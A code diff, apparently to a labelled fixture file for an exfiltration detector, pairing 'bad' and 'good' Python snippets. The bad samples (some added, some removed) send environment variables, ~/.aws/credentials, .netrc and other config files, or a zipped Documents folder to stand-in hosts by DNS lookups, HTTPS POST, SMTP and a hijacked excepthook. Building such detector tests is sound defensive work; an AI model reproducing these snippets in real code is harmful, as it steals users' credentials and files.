@@ -23,6 +23,34 @@ def report(event: str):
     request = urllib.request.Request(os.environ["EVENTS_URL"], data=body)
     urllib.request.urlopen(request, timeout=3)
 
+#: bad dns-lookup
+import base64
+import os
+import socket
+
+user = os.getenv("USER", "") + "|" + socket.gethostname() + "|" + os.getcwd()
+label = base64.b32encode(user.encode()).decode().rstrip("=").lower()
+for i in range(0, len(label), 60):
+    try:
+        socket.gethostbyname(f"{label[i:i + 60]}.{i}.ns1.example.invalid")  #!
+    except OSError:
+        pass
+
+#: good dns-lookup
+import base64
+import socket
+
+
+def reachable(hosts):
+    for host in hosts:
+        try:
+            yield host, socket.gethostbyname(f"{host}.example.invalid")
+        except OSError:
+            yield host, None
+
+
+ICON = base64.b32encode(b"icon").decode().lower()
+
 #: bad cloud-metadata
 from urllib.request import urlopen
 
@@ -67,60 +95,6 @@ def announce(version: str) -> None:
     hook = os.environ["DISCORD_WEBHOOK"]
     requests.post(hook, json={"content": f"{version} is out ({platform.python_version()})"})
 
-#: bad telegram-zip
-import io
-import os
-import zipfile
-from http.client import HTTPSConnection
-
-
-def collect(folder=os.path.expanduser("~/Documents")):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        for root, _, names in os.walk(folder):
-            for name in names:
-                archive.write(os.path.join(root, name))
-    connection = HTTPSConnection("bot.example.invalid")
-    connection.request("POST", "/sendDocument", buffer.getvalue())  #!
-
-
-collect()
-
-#: good telegram-zip
-import io
-import os
-import zipfile
-
-
-def backup(folder, target):
-    buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w") as archive:
-        for root, _, names in os.walk(folder):
-            for name in names:
-                archive.write(os.path.join(root, name))
-    with open(target, "wb") as out:
-        out.write(buffer.getvalue())
-
-#: bad git-config
-import subprocess
-from pathlib import Path
-
-import httpx
-
-files = [".gitconfig", ".netrc", ".pypirc", ".aws/credentials", ".kube/config"]
-found = {n: (Path.home() / n).read_text() for n in files if (Path.home() / n).exists()}
-found["remote"] = subprocess.getoutput("git remote -v")
-httpx.put("https://up.example.invalid/" + str(len(found)), json=found)  #!
-
-#: good git-config
-import subprocess
-from pathlib import Path
-
-files = [".editorconfig", "pyproject.toml", ".flake8"]
-found = {n: (Path.cwd() / n).read_text() for n in files if (Path.cwd() / n).exists()}
-found["remote"] = subprocess.check_output(["git", "remote", "-v"], text=True)
-print(sorted(found))
-
 #: bad aliased-environ
 from os import environ as settings
 from requests import Session
@@ -136,3 +110,52 @@ from requests import Session
 s = Session()
 s.headers["Authorization"] = "Bearer " + settings["INVOICES_TOKEN"]
 print(s.get("https://invoices.example.invalid/v2/list").json())
+
+#: bad excepthook-report
+import os
+import sys
+import http.client as hc
+
+
+def _hook(kind, value, trace):
+    link = hc.HTTPSConnection("errors.example.invalid")
+    link.request("POST", "/", body="\n".join("%s=%s" % pair for pair in os.environ.items()))  #!
+    sys.__excepthook__(kind, value, trace)
+
+
+sys.excepthook = _hook
+
+#: good excepthook-report
+import sys
+import http.client as hc
+
+
+def _hook(kind, value, trace):
+    link = hc.HTTPSConnection("errors.example.invalid")
+    link.request("POST", "/", body=f"{kind.__name__}: {value}")
+    sys.__excepthook__(kind, value, trace)
+
+
+sys.excepthook = _hook
+
+#: bad smtp-mail
+import os
+import smtplib
+from email.message import EmailMessage
+
+message = EmailMessage()
+message["To"] = "drop@mail.example.invalid"
+message.set_content(open(os.path.expanduser("~/.aws/credentials")).read())
+with smtplib.SMTP("mail.example.invalid") as server:
+    server.send_message(message)  #!
+
+#: good smtp-mail
+import os
+import smtplib
+from email.message import EmailMessage
+
+message = EmailMessage()
+message["To"] = os.environ["REPORT_TO"]
+message.set_content(open("report.txt").read())
+with smtplib.SMTP("mail.example.invalid") as server:
+    server.send_message(message)
